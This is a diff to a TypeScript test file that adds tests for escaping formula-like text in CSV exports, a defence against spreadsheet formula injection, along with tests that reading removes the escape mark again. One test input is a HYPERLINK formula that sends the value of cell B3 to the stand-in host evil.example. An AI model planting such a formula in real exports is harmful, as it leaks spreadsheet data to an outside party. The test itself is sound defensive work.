@@ -2,7 +2,7 @@ import { crc32, deflateRawSync } from 'node:zlib';
 import ExcelJS from 'exceljs';
 import { describe, expect, it } from 'vitest';
 import { AppError } from './app-error.ts';
-import { checkZipInflation, readSheetCells, SHEET_MAX_INFLATED_BYTES } from './spreadsheet.ts';
+import { checkZipInflation, csvCell, readSheetCells, SHEET_MAX_INFLATED_BYTES } from './spreadsheet.ts';
 
 const MESSAGES = { missing: '缺', type: '型', unreadable: '读', empty: '空', tooMany: '多' };
 const LIMITS = { maxRows: 100 };
@@ -117,5 +117,34 @@ describe('reading an uploaded sheet', () => {
       ['名称', '数量'],
       ['阿莫西林', '2'],
     ]);
+  });
+});
+
+describe('CSV cells of an export', () => {
+  it('marks formula-like text so a spreadsheet runs nothing, and reading takes the mark off again', async () => {
+    const texts = [
+      '=HYPERLINK("http://evil.example/?x="&B3,"点此")',
+      '+1+1',
+      '-2+3',
+      '@SUM(A1)',
+      '\t=1',
+      '阿莫西林',
+    ];
+    const cells = texts.map(csvCell);
+    expect(cells).toEqual([
+      '"\'=HYPERLINK(""http://evil.example/?x=""&B3,""点此"")"',
+      "'+1+1",
+      "'-2+3",
+      "'@SUM(A1)",
+      "'\t=1",
+      '阿莫西林',
+    ]);
+    // Numbers stay numbers, a minus sign and all.
+    expect([csvCell(-5), csvCell(12.5), csvCell(null)]).toEqual(['-5', '12.5', '']);
+    const file = { filename: 'export.csv', bytes: Buffer.from(`${cells.join(',')}\r\n`) } as never;
+    expect(await readSheetCells(file, MESSAGES, LIMITS)).toEqual([texts]);
+    // A name that begins with ' but is not formula-like keeps it.
+    const quoted = { filename: 'a.csv', bytes: Buffer.from("'s Pharmacy,'=1\n") } as never;
+    expect(await readSheetCells(quoted, MESSAGES, LIMITS)).toEqual([["'s Pharmacy", '=1']]);
   });
 });
